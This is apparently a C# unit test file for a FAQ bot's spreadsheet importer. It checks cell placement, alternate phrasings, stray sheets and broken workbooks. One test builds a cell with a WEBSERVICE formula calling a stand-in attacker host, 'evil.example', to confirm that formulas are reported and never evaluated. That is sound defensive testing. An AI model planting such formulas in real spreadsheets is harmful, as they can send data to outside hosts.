using DocumentFormat.OpenXml.Spreadsheet;
using HipFaqBot.Exchange.Reading;
using HipFaqBot.Search.Knowledge;

namespace HipFaqBot.Exchange.Tests;

public sealed class SpreadsheetTests
{
    [Fact]
    public void A_table_as_the_service_exports_it_is_read()
    {
        var (entries, findings) = Read(Workbook.Exported(
            ["Question", "Answer", "Source", "Metadata", "SuggestedQuestions", "IsContextOnly", "Prompts", "QnaId"],
            ["May I walk?", "Yes.\\n\\nDaily.", "faq.docx", "", "[]", "False", "[{\"DisplayOrder\":0,\"QnaId\":2,\"DisplayText\":\"Run\"}]", "1"],
            ["is walking ok", "Yes.\\n\\nDaily.", "faq.docx", "", "[]", "False", "[]", "1"]));

        Assert.Equal(("May I walk?", "Yes.\n\nDaily.", 2), (entries.Single().Question, entries.Single().Answer, entries.Single().Line));
        Assert.Equal(["is walking ok"], entries[0].Phrasings);
        Assert.Empty(findings.Unplaced);
    }

    [Fact]
    public void Cells_stand_where_their_reference_says()
    {
        var (entries, findings) = Read(Workbook.Of(("FAQ",
        [
            Row(3, ("B3", "Question"), ("D3", "Answer")),
            new Row(Shared("B7", 0), Shared("D7", 1)) { RowIndex = 7 },
        ])));

        Assert.Equal(("May I run?", "Not yet.", 7), (entries.Single().Question, entries.Single().Answer, entries.Single().Line));
        Assert.Empty(findings.Unplaced);
    }

    [Fact]
    public void A_formula_is_never_worked_out_and_always_told()
    {
        var formula = new Cell { CellReference = "B2", DataType = CellValues.String, CellFormula = new CellFormula("WEBSERVICE(\"https://evil.example\")"), CellValue = new CellValue("Last shown.") };
        var (entries, findings) = Read(Workbook.Of(("FAQ", [Row(1, ("A1", "Question"), ("B1", "Answer")), new Row(Cell("A2", "Why?"), formula) { RowIndex = 2 }])));

        Assert.Equal("Last shown.", entries.Single().Answer);
        var warning = findings.Problems.Single();
        Assert.Equal((2, Severity.Warning, "formula"), (warning.Line, warning.Severity, warning.Rule));
        Assert.Contains("B2", warning.Message, StringComparison.Ordinal);
        Assert.Contains("WEBSERVICE", warning.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Other_sheets_and_cells_without_a_column_are_told()
    {
        var (entries, findings) = Read(Workbook.Of(
            ("Notes", [Row(1, ("A1", "Remember"))]),
            ("FAQ", [Row(1, ("A1", "Question"), ("B1", "Answer")), Row(2, ("A2", "Why?"), ("B2", "So.")), Row(3, ("A3", "Who?"), ("B3", "You."), ("F3", "stray"))])));

        Assert.Equal(["Why?"], entries.Select(entry => entry.Question));
        Assert.Equal(["sheet 'Notes'", "row"], findings.Unplaced.Select(part => part.What));
    }

    [Fact]
    public void A_workbook_without_the_table_is_an_error() =>
        Assert.Equal("no-columns", Read(Workbook.Exported(["Name", "Price"], ["Hip", "1"])).Findings.Problems.Single().Rule);

    [Theory]
    [InlineData(0)]
    [InlineData(100)]
    [InlineData(500)]
    public void A_broken_workbook_is_an_error(int length) =>
        Assert.Equal("not-a-workbook", Read(Workbook.Exported(["Question", "Answer"], ["Why?", "So."])[..length]).Findings.Problems.Single().Rule);

    private static (IReadOnlyList<ForeignEntry> Entries, Findings Findings) Read(byte[] workbook)
    {
        var findings = new Findings("faq.xlsx");
        return (SpreadsheetReader.Read(workbook, findings), findings);
    }

    private static Row Row(uint number, params (string Reference, string Text)[] cells) =>
        new(cells.Select(cell => Cell(cell.Reference, cell.Text))) { RowIndex = number };

    private static Cell Cell(string reference, string text) => new() { CellReference = reference, DataType = CellValues.String, CellValue = new CellValue(text) };

    private static Cell Shared(string reference, int index) => new() { CellReference = reference, DataType = CellValues.SharedString, CellValue = new CellValue(index) };
}
